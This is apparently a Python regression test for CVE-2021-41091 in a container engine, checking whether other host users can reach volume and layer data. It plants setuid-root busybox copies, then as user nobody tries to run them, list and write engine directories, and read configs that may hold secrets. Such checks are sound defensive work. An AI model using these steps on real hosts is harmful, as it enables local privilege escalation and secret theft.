"""Files of volumes by their host path, for other users of the host (CVE-2021-41091)."""

import os
import subprocess

from ground import attack

NOBODY = 65534


def as_nobody(*words):
    """Runs it as another user: its output, or None if that is denied."""
    done = subprocess.run(["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", *map(str, words)],
                          capture_output=True, text=True, cwd="/")
    return done.stdout if done.returncode == 0 else None


@attack
def test_another_user_of_the_host(ground):
    ground.engine.dir.chmod(0o755)  # made closed by mkdtemp(3); /var/lib isn't
    volume = ground.volume()
    binds = {"Binds": [f"{volume}:/d"]}
    ground.run("echo public >/d/public; cp /bin/busybox /d/gain; chmod 4755 /d/gain; chmod 777 /d", HostConfig=binds)
    running = ground.start("cp /bin/busybox /gain; chmod 4755 /gain; sleep 60", HostConfig=binds)
    files = ground.files_of(volume)
    layer = ground.engine.data_root / "containers" / running / "upper"
    for path in (files, files.parent, ground.engine.data_root, layer, layer.parent, ground.engine.data_root / "layers"):
        if as_nobody("ls", path) is not None:
            yield f"another user lists {path}"
    if as_nobody("cat", files / "public") is not None:
        yield "another user reads a file of a volume"
    for program in (files / "gain", layer / "gain"):
        if (uid := as_nobody(program, "id", "-u")) is not None:
            yield f"another user runs {program} and is {uid}"
    for folder in (files, ground.engine.data_root, layer, ground.engine.exec_root):
        as_nobody("touch", f"{folder}/planted")
        if (folder / "planted").exists():
            yield f"another user makes files in {folder}"
    yield from readable_secrets(ground, running)


def readable_secrets(ground, running):
    """Configurations hold environment variables: nobody else reads them."""
    for top, _, names in os.walk(ground.engine.exec_root):
        for name in names:
            if name.endswith((".json", "log")) and as_nobody("cat", f"{top}/{name}") is not None:
                yield f"another user reads {top}/{name}"
